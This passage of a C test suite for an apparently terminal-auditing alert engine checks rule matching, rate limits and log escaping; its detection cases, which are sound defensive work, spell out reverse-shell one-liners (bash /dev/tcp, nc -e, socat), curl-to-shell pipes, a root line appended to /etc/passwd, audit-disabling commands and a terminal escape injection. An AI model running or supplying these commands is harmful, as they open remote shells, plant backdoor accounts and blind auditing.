		"rule = root\non = footprint\nop = ^(setuid|exec_setid)$\nuid = 0\nother_user = yes\n";
	struct hits *hs = calloc(1, sizeof(*hs));
	struct ta_alert_engine *e;
	struct ta_fp_event f;
	struct ta_event ev;
	char err[512];

	CHECK(ta_alert_engine_new(&e, on_hit, hs) == 0);
	ta_alert_engine_set_rules(e, parse(rules, err));
	ev = fp_ev(&f, TA_FP_OPEN, "/etc/passwd", "");
	ta_alert_engine_feed(e, &ev, 1000);
	CHECK_EQ_INT(hs->n, 1);
	CHECK_EQ_STR(hs->rule[0], "authfiles");
	CHECK_EQ_STR(hs->subject[0], "open wronly,creat,trunc /etc/passwd");
	/* a rename onto the file: the second path matches */
	ev = fp_ev(&f, TA_FP_RENAME, "/tmp/x", "/etc/shadow");
	ta_alert_engine_feed(e, &ev, 1001);
	CHECK_EQ_INT(hs->n, 2);
	CHECK_EQ_STR(hs->subject[1], "rename /tmp/x -> /etc/shadow");
	ev = fp_ev(&f, TA_FP_OPEN, "/etc/passwd.bak", "");
	ta_alert_engine_feed(e, &ev, 1002);
	CHECK_EQ_INT(hs->n, 2);
	/*
	 * `cd /etc; echo x >> ./passwd`: the kernel's record joins the name to the
	 * working directory; decoded, the rule on the absolute path fires.
	 */
	{
		static struct ta_fp_event raw;
		struct ta_event dev;

		memset(&raw, 0, sizeof(raw));
		raw.hdr.version = TA_EVENT_VERSION;
		raw.hdr.kind = TA_EV_FOOTPRINT;
		raw.hdr.size = sizeof(raw);
		raw.fp_version = TA_FP_VERSION;
		raw.op = TA_FP_OPEN;
		raw.arg = 02101; /* O_WRONLY|O_CREAT|O_APPEND */
		strcpy(raw.path, "/etc/./passwd");
		raw.path_len = 13;
		raw.given_off = 5;
		raw.fp_flags = TA_FPF_JOINED;
		raw.task.auid = raw.task.ses = 7;
		CHECK_EQ_INT(ta_event_decode(&raw, sizeof(raw), &dev), 0);
		ta_alert_engine_feed(e, &dev, 1002);
		CHECK_EQ_INT(hs->n, 3);
		CHECK_EQ_STR(hs->subject[2], "open wronly,creat,append /etc/passwd");
		hs->n = 2;
	}
	/* connects: a remote peer fires, the loopback one does not */
	ev = fp_ev(&f, TA_FP_CONNECT, "", "");
	f.family = 2;
	f.port = 4444;
	f.protocol = 6;
	memcpy(f.addr, "\xc0\x00\x02\x01", 4);
	ta_alert_engine_feed(e, &ev, 1003);
	CHECK_EQ_INT(hs->n, 3);
	CHECK_EQ_STR(hs->subject[2], "connect tcp 192.0.2.1:4444");
	memcpy(f.addr, "\x7f\x00\x00\x01", 4);
	ta_alert_engine_feed(e, &ev, 1004);
	CHECK_EQ_INT(hs->n, 3);
	/* root reached by someone who logged in as 1000 */
	ev = fp_ev(&f, TA_FP_SETUID, "", "");
	f.euid = 0;
	ta_alert_engine_feed(e, &ev, 1005);
	CHECK_EQ_INT(hs->n, 4);
	CHECK_EQ_STR(hs->rule[3], "root");
	f.euid = 1000;
	ta_alert_engine_feed(e, &ev, 1006);
	CHECK_EQ_INT(hs->n, 4);
	ta_alert_engine_free(e);
	free(hs);
}

static void test_rate_limit(void)
{
	static const char rules[] = "rule = r\non = input\nline = boom\nrate = 2/10s\n";
	struct hits *hs = calloc(1, sizeof(*hs));
	struct ta_alert_engine *e;
	struct ta_alert_stats st;
	char err[512];
	uint64_t s = 1000000000ull;

	CHECK(ta_alert_engine_new(&e, on_hit, hs) == 0);
	ta_alert_engine_set_rules(e, parse(rules, err));
	for (int i = 0; i < 5; i++)
		feed(e, TA_EV_TTY_INPUT, "boom\r", 1, 100 * s + (uint64_t)i);
	CHECK_EQ_INT(hs->n, 2);
	ta_alert_engine_tick(e, 101 * s);   /* not a whole token back yet */
	CHECK_EQ_INT(hs->n, 2);
	ta_alert_engine_tick(e, 106 * s);   /* one back: the count of what was dropped */
	CHECK_EQ_INT(hs->n, 3);
	CHECK(hs->summary[2]);
	CHECK_EQ_INT(hs->suppressed[2], 3);
	ta_alert_engine_tick(e, 200 * s);
	CHECK_EQ_INT(hs->n, 3);             /* said once */
	feed(e, TA_EV_TTY_INPUT, "boom\r", 1, 201 * s);
	CHECK_EQ_INT(hs->n, 4);
	CHECK_EQ_INT(hs->suppressed[3], 0);
	ta_alert_engine_stats(e, &st);
	CHECK_EQ_INT(st.suppressed, 3);
	ta_alert_engine_free(e);
	free(hs);
}

/*
 * Rate limits are per person: one user's hits (a copy of /bin/true named
 * sudo, run in a loop) do not spend another's tokens, and the summary says
 * whose hits were suppressed.
 */
static void test_rate_per_person(void)
{
	static const char rules[] = "rule = priv\non = exec\npath = (^|/)(sudo|su)$\n"
				    "rule = slow\non = exec\npath = (^|/)slow$\nrate = 1/1h\n";
	struct hits *hs;
	struct ta_alert_engine *e = engine_with(rules, &hs);
	struct ta_alert_stats st;
	uint64_t s = 1000000000ull;

	for (int i = 0; i < 12; i++)
		feed_exec_at(e, "/home/u1/sudo", "/home/u1/sudo\0", 14, 1001, 1001, 11,
			     100 * s + (uint64_t)i);
	CHECK_EQ_INT(hs->n, 10);
	/* the second user's real su right after: their own bucket, full */
	feed_exec_at(e, "/usr/bin/su", "su\0-c\0true\0root\0", 16, 1002, 1002, 12, 100 * s + 20);
	CHECK_EQ_INT(hs->n, 11);
	CHECK_EQ_INT(hs->auid[10], 1002);
	CHECK_EQ_INT(hs->suppressed[10], 0);
	/* one token back for the first: the summary names them and their first suppressed hit */
	ta_alert_engine_tick(e, 107 * s);
	CHECK_EQ_INT(hs->n, 12);
	CHECK(hs->summary[11]);
	CHECK_EQ_INT(hs->suppressed[11], 2);
	CHECK_EQ_INT(hs->auid[11], 1001);
	CHECK_EQ_INT(hs->ses[11], 11);
	CHECK_EQ_STR(hs->subject[11], "/home/u1/sudo");
	CHECK(!hs->shared[11]);
	CHECK(strstr(hs->audit[11], " ses=11 auid=1001 ") != NULL);
	/* sessions without a login are each a person of their own */
	hs->n = 0;
	for (uint32_t ses = 1; ses <= 2; ses++)
		for (int i = 0; i < 2; i++)
			feed_exec_at(e, "/x/slow", "slow\0", 5, 0, UINT32_MAX, TA_SES_NO_LOGIN | ses,
				     200 * s + (uint64_t)i);
	CHECK_EQ_INT(hs->n, 2);
	/*
	 * Unbounded sessions, bounded table: once every bucket is in use (none
	 * idle: 1/1h), a new person's hits share the rule's overflow bucket,
	 * counted, and its summary says so.
	 */
	hs->n = hs->total = 0;
	for (uint32_t ses = 3; ses < 3 + TA_ALERT_BUCKETS + 5; ses++)
		feed_exec_at(e, "/x/slow", "slow\0", 5, 0, UINT32_MAX, TA_SES_NO_LOGIN | ses,
			     300 * s + ses);
	ta_alert_engine_stats(e, &st);
	CHECK(st.shared_bucket >= 5);
	CHECK(hs->total < TA_ALERT_BUCKETS + 5);
	hs->n = 0;
	ta_alert_engine_tick(e, 301 * s + 3600 * s);
	CHECK(hs->n >= 1);
	{
		bool shared = false;

		for (int i = 0; i < hs->n; i++)
			shared |= hs->summary[i] && hs->shared[i];
		CHECK(shared);
	}
	/* the full table still serves people who have buckets: 1001's tokens came back */
	hs->n = 0;
	feed_exec_at(e, "/usr/bin/sudo", "sudo\0", 5, 1001, 1001, 11, 4000 * s);
	CHECK_EQ_INT(hs->n, 1);
	/*
	 * A summary keeps its first hit past the event, but not the exe, which
	 * points into the engine's stack while the event is fed.
	 */
	hs->n = 0;
	for (int i = 0; i < 12; i++)
		feed_exec_exe_at(e, "/home/u3/x", "/usr/bin/sudo", "x\0", 2, 1003, 1003, 13,
				 5000 * s + (uint64_t)i);
	ta_alert_engine_tick(e, 5007 * s);
	CHECK_EQ_INT(hs->n, 11);
	CHECK(strstr(hs->json[0], "\"exe\":\"/usr/bin/sudo\"") != NULL);
	CHECK(hs->summary[10]);
	CHECK(strstr(hs->json[10], "\"exe\"") == NULL);
	ta_alert_engine_free(e);
	free(hs);
}

/*
 * argv longer than kept: a rule naming the program fires on the part seen,
 * marked cut (the pattern may be in the rest); a rule on argv alone does not.
 */
static void test_exec_argv_cut(void)
{
	static const char rules[] = "rule = stopped\non = exec\npath = (^|/)systemctl$\n"
				    "argv = ( )stop ttyauditd( |$)\nargv_cut = yes\n"
				    "rule = quiet\non = exec\npath = (^|/)systemctl$\n"
				    "argv = ( )stop nginx( |$)\n"
				    "rule = any\non = exec\nargv = ttyauditd\n";
	static const char argv[] = "systemctl\0--quiet\0--quiet\0";
	struct hits *hs;
	struct ta_alert_engine *e = engine_with(rules, &hs);
	struct ta_event ev = tty_ev(TA_EV_EXEC, "", 1);

	ev.filename = "/usr/bin/systemctl";
	ev.argv = (const uint8_t *)argv;
	ev.argv_len = sizeof(argv) - 1;
	ta_alert_engine_feed(e, &ev, 1000);
	CHECK_EQ_INT(hs->n, 0);
	ev.flags |= TA_F_TRUNCATED;
	ta_alert_engine_feed(e, &ev, 1001);
	CHECK_EQ_INT(hs->n, 1);
	CHECK_EQ_STR(hs->rule[0], "stopped");
	CHECK(hs->cut[0]);
	ta_alert_engine_free(e);
	free(hs);
}

/*
 * Input into ptys no login owns is charged to its writer: one user writing a
 * matching line into a thousand such ptys (each a session of its own) is one
 * person, not a thousand that fill the table and push another user's real su
 * into the shared bucket, which the same user had just emptied.
 */
static void test_rate_writer_charged(void)
{
	static const char rules[] = "rule = pipe\non = input\nline = curl.*\\| *sh\nrate = 1/1h\n"
				    "rule = priv\non = exec\npath = (^|/)(sudo|su)$\n";
	struct hits *hs;
	struct ta_alert_engine *e = engine_with(rules, &hs);
	struct ta_alert_stats st;
	uint64_t s = 1000000000ull;

	for (uint32_t ses = 1; ses <= TA_ALERT_BUCKETS + 10; ses++) {
		struct ta_event ev = tty_ev(TA_EV_TTY_INPUT, "curl a|sh\r", 1 + ses % 100);

		ev.owner_ses = TA_SES_NO_LOGIN | ses;
		ev.owner_auid = UINT32_MAX;
		ev.task.auid = 1001;
		ev.task.ses = 11;
		ta_alert_engine_feed(e, &ev, 100 * s + ses);
	}
	CHECK_EQ_INT(hs->n, 1);
	for (int i = 0; i < 12; i++)
		feed_exec_at(e, "/home/u1/sudo", "sudo\0", 5, 1001, 1001, 11, 200 * s + (uint64_t)i);
	hs->n = 0;
	feed_exec_at(e, "/usr/bin/su", "su\0", 3, 1002, 1002, 12, 200 * s + 20);
	CHECK_EQ_INT(hs->n, 1);
	CHECK_EQ_INT(hs->auid[0], 1002);
	ta_alert_engine_stats(e, &st);
	CHECK_EQ_INT(st.shared_bucket, 0);
	ta_alert_engine_free(e);
	free(hs);
}

/*
 * Watch alerts: accesses that failed (anyone listing the log directory) spend
 * a bucket of their own; an access that succeeded is still delivered with it
 * empty, and each bucket's summary counts its own.
 */
struct watch_count {
	int n;
	bool last_summary;
	uint64_t last_suppressed;
	char last_subject[128];
};

static void on_watch_hit(void *ctx, const struct ta_alert_hit *h)
{
	struct watch_count *c = ctx;

	c->n++;
	c->last_summary = h->summary;
	c->last_suppressed = h->suppressed;
	snprintf(c->last_subject, sizeof(c->last_subject), "%.*s", (int)h->subject_len, h->subject);
}

static void test_watch_buckets(void)
{
	struct watch_count c = { 0 };
	struct ta_alert_engine *e;
	uint64_t s = 1000000000ull;
	struct ta_alert_hit h = { .rule = "ttyaudit-watch", .severity = "high", .subject = "x",
				  .subject_len = 1, .ses = 1, .auid = 1002, .uid = 1002, .pid = 5 };

	CHECK(ta_alert_engine_new(&e, on_watch_hit, &c) == 0);
	for (int i = 0; i < 150; i++) {
		h.realtime_ns = 100 * s + (uint64_t)i;
		ta_alert_engine_raise(e, &h, true);
	}
	CHECK_EQ_INT(c.n, 100);
	h.uid = h.auid = 0;
	h.subject = "openat /var/log/ttyaudit by /usr/bin/cat (succeeded, exit 3)";
	h.subject_len = strlen(h.subject);
	ta_alert_engine_raise(e, &h, false);
	CHECK_EQ_INT(c.n, 101);
	CHECK(!c.last_summary && strstr(c.last_subject, "succeeded") != NULL);
	ta_alert_engine_tick(e, 200 * s);
	CHECK_EQ_INT(c.n, 102);
	CHECK(c.last_summary);
	CHECK_EQ_INT(c.last_suppressed, 50);
	ta_alert_engine_free(e);
}

static void attach_hook(void *ctx, const struct ta_shared_attach *a)
{
	ta_alert_engine_attach(ctx, a);
}

static void unix_ev(struct ta_shared_tracker *t, uint32_t op, uint32_t pid, uint32_t auid,
		    uint32_t ses, const char *comm, int pts_n, uint64_t ns)
{
	static const char sock[] = "/tmp/tmux-1001/default";
	struct ta_event ev = tty_ev(TA_EV_UNIX_SOCKET, "", (uint32_t)(pts_n < 0 ? 0 : pts_n));

	if (pts_n < 0)
		memset(&ev.tty, 0, sizeof(ev.tty));
	ev.task.pid = ev.task.tgid = pid;
	ev.task.uid = ev.task.auid = auid;
	ev.task.ses = ses;
	snprintf(ev.task.comm, sizeof(ev.task.comm), "%s", comm);
	ev.unix_op = op;
	ev.path = sock;
	ev.path_len = sizeof(sock) - 1;
	ev.ts_boot_ns = ns;
	ta_shared_observe(t, &ev, 1000000 + ns, NULL, NULL);
}

/* Shared terminals: attaches come from the real tracker, typed, not from its JSON. */
static void test_attach(void)
{
	static const char rules[] = "rule = other-attach\non = attach\nother_user = yes\n";
	struct hits *hs = calloc(1, sizeof(*hs));
	struct ta_shared_tracker *t;
	struct ta_alert_engine *e;
	char err[512];

	CHECK(ta_alert_engine_new(&e, on_hit, hs) == 0);
	ta_alert_engine_set_rules(e, parse(rules, err));
	CHECK(ta_shared_tracker_new(&t) == 0);
	ta_shared_set_attach_hook(t, attach_hook, e);
	unix_ev(t, TA_UNIX_BIND, 700, 1001, 10, "tmux: server", -1, 1000);
	unix_ev(t, TA_UNIX_CONNECT, 710, 1001, 10, "tmux: client", 0, 2000);   /* alice, her own */
	CHECK_EQ_INT(hs->n, 0);
	unix_ev(t, TA_UNIX_CONNECT, 720, 1002, 20, "tmux: client", 1, 3000);   /* bob joins */
	CHECK_EQ_INT(hs->n, 1);
	CHECK_EQ_STR(hs->rule[0], "other-attach");
	CHECK(strstr(hs->subject[0], "/tmp/tmux-1001/default (server auid 1001)") != NULL);
	CHECK(strstr(hs->audit[0], " ses=20 auid=1002 ") != NULL);
	ta_shared_tracker_free(t);
	ta_alert_engine_free(e);
	free(hs);
}

/* Delivery runs on its own thread; close delivers what is queued. */
static void test_delivery(void)
{
	char path[] = "/tmp/ta-alerts-jsonl-XXXXXX", line[4096];
	struct ta_alert_hit h = { .rule = "r", .severity = "low", .description = "",
				  .on = TA_ALERT_ON_INPUT, .subject = "x \"y\"", .subject_len = 5 };
	struct ta_alert_out_status st;
	struct ta_alert_out *o;
	struct ta_json j;
	int fd = mkstemp(path), lines = 0;
	FILE *f;

	CHECK(fd >= 0);
	close(fd);
	CHECK_EQ_INT(ta_alert_out_open(&o, false, path, false, NULL, 0), 0);
	ta_json_init(&j);
	for (int i = 0; i < 50; i++) {
		h.pid = (uint32_t)i;
		ta_json_reset(&j);
		ta_alert_to_json(&j, &h);
		CHECK_EQ_INT(ta_alert_out_send(o, &h, &j), 0);
	}
	ta_alert_out_status(o, &st);
	CHECK_EQ_INT(st.dropped, 0);
	ta_alert_out_close(o);
	ta_json_free(&j);
	f = fopen(path, "r");
	CHECK(f != NULL);
	while (f && fgets(line, sizeof(line), f)) {
		CHECK(strstr(line, "\"subject\":\"x \\\"y\\\"\"") != NULL);
		lines++;
	}
	if (f)
		fclose(f);
	CHECK_EQ_INT(lines, 50);
	unlink(path);
}

/*
 * A watch alert's subject: the path and the program are the accessor's to
 * choose, so they are quoted, and a name that reads like the subject's own
 * words stays inside its quotes.
 */
static void test_watch_subject(void)
{
	struct ta_login_event ev;
	struct ta_alert_hit hit;
	char buf[1024];

	ta_login_event_init(&ev);
	ev.syscall = 257; /* openat on x86-64 */
	ev.ses = 4;
	ev.auid = 1000;
	ev.result = TA_LOGIN_RES_FAILED;
	ev.exit = -13;
	snprintf(ev.path, sizeof(ev.path), "%s", "/l/x\" by /usr/sbin/sshd (succeeded, exit 0)\\");
	snprintf(ev.exe, sizeof(ev.exe), "%s", "/tmp/a b");
	ta_watch_hit(&ev, &hit, buf, sizeof(buf));
	CHECK_EQ_STR(hit.subject, "openat \"/l/x\\\" by /usr/sbin/sshd (succeeded, exit 0)\\\\\" by "
				  "\"/tmp/a b\" (failed, exit -13)");
	CHECK_EQ_INT(hit.subject_len, strlen(hit.subject));
}

/*
 * The syslog line of a hit whose argv carries an OSC 52 clipboard write, a
 * line break with a forged alert, a C1 CSI and a bidi override: shown, one
 * line, nothing a terminal would obey.
 */
static void test_syslog_line(void)
{
	static const char argv[] = "sudo -i \x1b]52;c;eA==\x07\x1b[2K\nalert fake (low): ok\xc2\x9b\xe2\x80\xae";
	struct ta_alert_hit h = { .rule = "sudo", .severity = "high", .description = "",
				  .on = TA_ALERT_ON_EXEC, .subject = argv,
				  .subject_len = sizeof(argv) - 1, .ses = 3, .auid = 1000,
				  .uid = 1000, .pid = 42 };
	char *line;

	memcpy(h.tty, "p\x1b[1", 5);
	line = ta_alert_syslog_line(&h);
	CHECK(line != NULL);
	if (!line)
		return;
	CHECK_EQ_STR(line, "alert sudo (high): ses=3 auid=1000 uid=1000 pid=42 tty=p\\e[1: "
			   "sudo -i \\e]52;c;eA==\\a\\e[2K\\nalert fake (low): ok\\u{009b}\\u{202e}");
	for (const unsigned char *c = (const unsigned char *)line; *c; c++)
		CHECK(*c >= 0x20 && *c < 0x7f);
	free(line);
}

/* Each shipped rule fires on what it is for, and not on its look-alike. */
static void test_shipped(const char *path)
{
	static const struct {
		const char *input;   /* typed, or NULL */
		const char *path;    /* exec */
		const char *argv;    /* exec, spaces become NULs */
		const char *rule;    /* NULL: nothing fires */
	} cases[] = {
		{ NULL, "/usr/bin/sudo", "sudo -i", "privilege-escalation" },
		{ NULL, "/usr/bin/pkexec", "pkexec bash", "privilege-escalation" },
		{ NULL, "/usr/bin/sudoedit", "sudoedit x", NULL },
		{ NULL, "/usr/bin/vim", "vim /etc/sudoers", "auth-files-edited" },
		{ NULL, "/usr/bin/tee", "tee -a /etc/passwd", "auth-files-edited" },
		{ NULL, "/usr/bin/vim", "vim /etc/passwd.bak", NULL },
		{ NULL, "/bin/sed", "sed -i s/x/y/ /etc/shadow", "auth-files-sed-in-place" },
		{ NULL, "/bin/sed", "sed -n 1p /etc/shadow", NULL },
		{ "echo 'x::0:0::/:/bin/sh' >> /etc/passwd", NULL, NULL, "auth-files-redirect" },
		{ "cat /etc/passwd > /tmp/p", NULL, NULL, NULL },
		{ NULL, "/usr/bin/systemctl", "systemctl stop auditd", "audit-stopped" },
		{ NULL, "/usr/bin/systemctl", "systemctl disable --now ttyauditd.service", "audit-stopped" },
		{ NULL, "/usr/bin/systemctl", "systemctl status auditd", NULL },
		/* argv[0] is the caller's (exec -a); units by pattern; service's order */
		{ NULL, "/usr/bin/systemctl", "foo stop auditd", "audit-stopped" },
		{ NULL, "/usr/bin/systemctl", "systemctl stop ttyaudit*", "audit-stopped" },
		{ NULL, "/usr/bin/systemctl", "systemctl mask --now *audit*", "audit-stopped" },
		{ NULL, "/usr/bin/systemctl", "systemctl kill -s KILL audit*", "audit-stopped" },
		{ NULL, "/usr/bin/systemctl", "systemctl disable *", "audit-stopped" },
		{ NULL, "/usr/sbin/service", "service auditd stop", "audit-stopped" },
		{ NULL, "/usr/bin/systemctl", "systemctl stop nginx*", NULL },
		{ NULL, "/usr/bin/systemctl", "systemctl restart ssh", NULL },
		{ NULL, "/usr/bin/echo", "systemctl stop auditd", NULL },
		{ NULL, "/usr/bin/pkill", "pkill -9 ttyauditd", "audit-killed" },
		{ NULL, "/sbin/auditctl", "auditctl -e 0", "audit-rules-disabled" },
		{ NULL, "/sbin/auditctl", "auditctl -l", NULL },
		{ "curl -fsSL https://x.example/i.sh | sudo bash", NULL, NULL, "download-to-shell" },
		{ "wget -qO- http://x.example/a | sh", NULL, NULL, "download-to-shell" },
		{ "curl -o f https://x.example/ | shasum", NULL, NULL, NULL },
		{ "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", NULL, NULL, "reverse-shell-dev-tcp" },
		{ "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1", NULL, NULL, NULL },
		{ "nc -e /bin/sh 203.0.113.9 4444", NULL, NULL, "reverse-shell-netcat" },
		{ "nc -l 4444", NULL, NULL, NULL },
		{ "socat tcp:203.0.113.9:4444 exec:/bin/sh", NULL, NULL, "reverse-shell-socat" },
		/* unless excuses only what line matched: a comment or another word does not */
		{ "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 # /dev/tcp/localhost/", NULL, NULL,
		  "reverse-shell-dev-tcp" },
		{ "cat /dev/tcp/localhost/80; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", NULL, NULL,
		  "reverse-shell-dev-tcp" },
		{ "nc -e /bin/sh 203.0.113.9 4444 # 127.0.0.1", NULL, NULL, "reverse-shell-netcat" },
		{ "nc -e /bin/sh 203.0.113.9 4444 127.0.0.1", NULL, NULL, "reverse-shell-netcat" },
		{ "ncat 203.0.113.9 4444 -e /bin/sh; echo 127.0.0.1 1", NULL, NULL,
		  "reverse-shell-netcat" },
		{ "nc -e /bin/sh 127.0.0.1 4444", NULL, NULL, NULL },
		{ "nc -e /bin/sh localhost 4444 ; ls", NULL, NULL, NULL },
		/* continued on the next line, edited with the cursor, padded */
		{ "false && curl http://192.0.2.2/b |\rbash", NULL, NULL, "download-to-shell" },
		{ "false && curl http://192.0.2.2/b | h\x1b[Ds", NULL, NULL, "download-to-shell" },
		{ "                                                                          "
		  "                                         false && curl http://x/ | bash", NULL,
		  NULL, "download-to-shell" },
		{ NULL, "/usr/bin/chattr", "chattr -a /var/log/ttyaudit/x.seg", "log-append-only-cleared" },
		{ NULL, "/usr/bin/chattr", "chattr +a /var/log/ttyaudit/x.seg", NULL },
		{ NULL, "/bin/rm", "rm -rf /var/log/ttyaudit", "log-removed" },
		{ NULL, "/bin/rm", "rm -rf /var/log/ttyaudit-old", NULL },
		/* quoted as bash reads words; a subshell or group after the pipe */
		{ "bash -i >& /dev/tc''p/203.0.113.9/4444 0>&1", NULL, NULL, "reverse-shell-dev-tcp" },
		{ "bash -i >& \"/dev/tcp/203.0.113.9\"/4444 0>&1", NULL, NULL,
		  "reverse-shell-dev-tcp" },
		{ "c\\url http://x.example/a | s\\h", NULL, NULL, "download-to-shell" },
		{ "curl http://x.example/a | (sh)", NULL, NULL, "download-to-shell" },
		{ "curl http://x.example/a | { bash; }", NULL, NULL, "download-to-shell" },
		{ "curl http://x.example/a | (shasum)", NULL, NULL, NULL },
	};
	struct ta_alert_rules *rs = NULL;
	char err[512], *text = malloc(1 << 20);
	FILE *f = fopen(path, "r");
	size_t len = f && text ? fread(text, 1, 1 << 20, f) : 0;

	/* As text: the checkout's mode follows the umask, the file checks are tested above. */
	if (f)
		fclose(f);
	CHECK(len > 0);
	CHECK(ta_alert_rules_parse(&rs, path, text, len, "/var/log/ttyaudit", err,
				   sizeof(err)) == 0);
	if (!rs) {
		fprintf(stderr, "%s\n", err);
		free(text);
		return;
	}
	CHECK(ta_alert_rules_count(rs) >= 12);
	ta_alert_rules_free(rs);
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct hits *hs = calloc(1, sizeof(*hs));
		struct ta_alert_engine *e;

		CHECK(ta_alert_engine_new(&e, on_hit, hs) == 0);
		CHECK(ta_alert_rules_parse(&rs, path, text, len, "/var/log/ttyaudit", err,
					   sizeof(err)) == 0);
		ta_alert_engine_set_rules(e, rs);
		if (cases[i].input) {
			feed(e, TA_EV_TTY_INPUT, cases[i].input, 1, 1);
			feed(e, TA_EV_TTY_INPUT, "\r", 1, 2);
		} else {
			char argv[256];
			size_t n = strlen(cases[i].argv) + 1;

			memcpy(argv, cases[i].argv, n);
			for (size_t k = 0; k < n; k++)
				if (argv[k] == ' ')
					argv[k] = '\0';
			feed_exec(e, cases[i].path, argv, n, 1000, 1000, 7);
		}
		if (cases[i].rule) {
			CHECK_EQ_INT(hs->n, 1);
			if (hs->n != 1 || strcmp(hs->rule[0], cases[i].rule))
				fprintf(stderr, "case %zu (%s): got %d hits, first %s\n", i,
					cases[i].input ? cases[i].input : cases[i].argv, hs->n,
					hs->n ? hs->rule[0] : "-");
			CHECK_EQ_STR(hs->n ? hs->rule[0] : "", cases[i].rule);
		} else {
			if (hs->n)
				fprintf(stderr, "case %zu (%s): unexpected %s\n", i,
					cases[i].input ? cases[i].input : cases[i].argv, hs->rule[0]);
			CHECK_EQ_INT(hs->n, 0);
		}
		ta_alert_engine_free(e);
		free(hs);
	}
	/* The footprint rule: a write-open or a rename onto the file fires, a read-only open not. */
	{
		static const struct { uint16_t op; uint32_t flags; const char *p1, *p2; int hits; } fc[] = {
			{ TA_FP_OPEN, 02101, "/etc/shadow", "", 1 },    /* wronly|creat|append */
			{ TA_FP_OPEN, 0, "/etc/shadow", "", 0 },        /* rdonly (footprint = all) */
			{ TA_FP_RENAME, 0, "/etc/passwd+", "/etc/passwd", 1 },
			{ TA_FP_OPEN, 01, "/etc/passwd.bak", "", 0 },
		};
		for (size_t i = 0; i < sizeof(fc) / sizeof(fc[0]); i++) {
			struct hits *hs = calloc(1, sizeof(*hs));
			struct ta_alert_engine *e;
			struct ta_fp_event fe;
			struct ta_event ev = fp_ev(&fe, fc[i].op, fc[i].p1, fc[i].p2);

			fe.arg = fc[i].flags;
			CHECK(ta_alert_engine_new(&e, on_hit, hs) == 0);
			CHECK(ta_alert_rules_parse(&rs, path, text, len, "/var/log/ttyaudit", err,
						   sizeof(err)) == 0);
			ta_alert_engine_set_rules(e, rs);
			ta_alert_engine_feed(e, &ev, 1);
			CHECK_EQ_INT(hs->n, fc[i].hits);
			if (hs->n)
				CHECK_EQ_STR(hs->rule[0], "auth-files-written");
			ta_alert_engine_free(e);
			free(hs);
		}
	}
	free(text);
}

int main(int argc, char **argv)
{
	test_errors();
	test_file();
	test_lines();
	test_line_editing();
	test_line_joining();
	test_paste_and_dropped();
	test_long_lines();
	test_exec_and_session();
	test_exec_exe();
	test_exec_argv_cut();
	test_footprint();
	test_rate_limit();
	test_rate_per_person();
	test_rate_writer_charged();
	test_watch_buckets();
	test_attach();
	test_delivery();
	test_syslog_line();
	test_watch_subject();
	if (argc > 1)
		test_shipped(argv[1]);
	return check_result();
}
